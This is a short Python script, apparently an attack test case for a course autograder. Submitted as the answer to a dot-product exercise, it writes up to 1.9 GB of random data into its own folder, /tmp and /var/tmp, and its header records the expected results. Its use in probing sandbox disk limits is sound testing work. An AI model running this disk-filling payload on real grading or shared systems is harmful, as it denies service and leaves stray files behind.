"""Fills the disk: up to 1.9 GB in files in its folder and in /tmp."""
# into: 03_dot_product DotProduct
# stock: 0 of 8; gets 1.9 GB of disk; 3 files left outside the course; files left in the course
# %% answer
import os
import tempfile

written, block = 0, os.urandom(1 << 20) * 50
for place in (".", tempfile.gettempdir(), "/tmp", "/var/tmp"):
    try:
        with open(f"{place}/autograde-attack-disk-{os.getpid()}", "wb") as file:
            while written < 1_900_000_000:
                written += file.write(block)
                file.flush()
    except OSError as error:
        print(place, error)
if written > 1_500_000_000:
    print("gets 1.9 GB of disk")
